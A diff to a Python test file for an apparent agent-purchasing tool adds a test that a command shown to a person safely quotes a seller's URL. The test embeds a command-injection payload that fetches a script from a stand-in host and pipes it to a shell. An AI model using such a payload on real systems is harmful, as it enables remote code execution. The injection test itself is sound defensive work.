@@ -1,11 +1,13 @@
 """An agent buys within its caps, retries by its order, and gets a receipt that was verified here."""
 
 import json
+import shlex
 from concurrent.futures import ThreadPoolExecutor
 from dataclasses import replace
 from pathlib import Path
 from typing import TYPE_CHECKING, Any
 
+import httpx
 import pytest
 
 from sealrun.errors import InputsRefused
@@ -239,6 +241,13 @@ def test_the_command_for_a_person_is_one_that_buys_the_same(shop: Shop) -> None:
         f"sealrun call {shop.offer} --key buyer.key --pay --account {NAME} --input layer=both --input level=3"
     )
     assert BUYER.to_base58() not in command + repr(shop.desk())
+
+
+def test_c1_the_command_for_a_person_runs_nothing_that_a_sellers_address_holds(shop: Shop) -> None:
+    shown = {"document": json.loads(shop.market.offer.document), "open": True}
+    shop.spoil = lambda *_: httpx.Response(200, json=shown)
+    url = shop.offer.replace("/offers/", "/a;curl${IFS}evil.test|sh;/offers/")
+    assert f"sealrun call {shlex.quote(url)} --key " in shop.desk().command(url, INPUTS)
 
 
 def test_only_the_named_services_are_asked(shop: Shop) -> None:
